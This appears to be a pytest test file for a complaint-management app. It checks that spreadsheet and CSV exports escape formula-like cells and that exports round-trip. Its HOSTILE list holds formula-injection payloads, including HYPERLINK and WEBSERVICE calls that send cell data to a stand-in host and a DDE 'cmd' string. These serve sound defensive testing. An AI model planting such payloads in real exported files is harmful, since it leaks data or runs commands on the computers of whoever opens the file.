"""Exports never carry live spreadsheet formulas; a .jsonl export imports back."""
import csv
import json

import pytest
from openpyxl import load_workbook

from tests.conftest import sign_in_tester

HOSTILE = ["=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点我\")", "=WEBSERVICE(\"http://example.invalid\")",
           "+1+2", "-2+3", "@SUM(A1:A2)", " \t=1+1", "\r=cmd|' /C calc'!A0",
           "\ufeff=HYPERLINK(\"http://example.invalid\")", "\u200b\u2060+1+1"]  # invisible prefixes, skipped by Excel


@pytest.fixture
def hostile_desk(desk, make_complaint):
    for i, text in enumerate(HOSTILE):
        desk.cases.add(make_complaint(merchant={"name": text + f"（虚构{i}）"}, facts=text, product=text[:50],
                                     consumer={"consent_to_share": True}))
    return desk


def test_xlsx_export_stores_formula_like_cells_as_text(hostile_desk, tmp_path):
    hostile_desk.ledger.export(tmp_path / "out.xlsx")
    ws = load_workbook(tmp_path / "out.xlsx").worksheets[0]
    header = [c.value for c in ws[1]]
    facts_col, merchant_col = header.index("事实") + 1, header.index("经营者名称") + 1
    facts = {ws.cell(r, facts_col).value: ws.cell(r, facts_col).data_type for r in range(2, ws.max_row + 1)}
    assert set(facts) == {t.strip() for t in HOSTILE} and set(facts.values()) == {"s"}
    assert all(ws.cell(r, merchant_col).data_type == "s" for r in range(2, ws.max_row + 1))
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_csv_export_prefixes_formula_like_cells_and_import_takes_the_quote_off(hostile_desk, tmp_path):
    hostile_desk.ledger.export(tmp_path / "out.csv")
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    facts = [r[rows[0].index("事实")] for r in rows[1:]]
    assert sorted(facts) == sorted("'" + t.strip() for t in HOSTILE)
    from app.ledger.exchange import read_rows

    back = [data["facts"] for _n, data in read_rows(tmp_path / "out.csv")]
    assert sorted(back) == sorted(t.strip() for t in HOSTILE)


def test_jsonl_export_imports_back_into_an_empty_database(hostile_desk, tmp_path, make_complaint):
    from app.desk import Desk
    from app.storage.db import Store

    hostile_desk.cases.add(make_complaint(consumer={"id_number": "11010519491231002X", "address": "测试路1号",
                                                   "consent_to_share": True}))
    n = hostile_desk.ledger.export(tmp_path / "all.jsonl", full=True)
    lines = (tmp_path / "all.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(lines) == n and json.loads(lines[0])["case_no"]
    empty = Desk(Store(f"sqlite:///{tmp_path / 'empty.db'}"))
    sign_in_tester(empty.store)
    numbers = empty.ledger.import_file(tmp_path / "all.jsonl")
    assert len(numbers) == n
    assert sorted(c["facts"] for c in empty.cases.list()) == sorted(c["facts"] for c in hostile_desk.cases.list())
    again = empty.cases.search("11010519491231002X") or empty.cases.list()
    assert any(empty.cases.show(c["case_no"]).as_json()["consumer"]["id_number"] == "11010519491231002X" for c in again)
    empty.store.dispose()


def test_leading_whitespace_does_not_hide_a_formula():
    from app.ledger.spreadsheet_safety import csv_cell, is_risky

    assert all(is_risky(t) for t in HOSTILE) and is_risky("\n\t @x") and is_risky("\u3000=1")
    assert not is_risky("\ufeff王某") and not is_risky("1-2")
    assert csv_cell(" \t=1+1") == "' \t=1+1" and csv_cell("王某") == "王某" and csv_cell(5) == 5
